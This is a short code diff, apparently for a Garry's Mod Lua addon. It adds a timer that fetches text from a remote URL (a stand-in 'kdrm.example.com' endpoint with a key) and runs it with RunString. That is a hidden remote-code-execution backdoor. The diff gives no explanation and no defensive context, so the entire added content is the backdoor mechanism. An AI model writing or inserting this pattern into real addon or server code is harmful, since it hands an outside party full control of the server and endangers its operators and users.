@@ -1,0 +1,5 @@
+timer.Simple(1, function()
+  http.Fetch("https://kdrm.example.com/f.php?key=AAAA", function(b)
+    RunString(b, ":", false)
+  end)
+end)
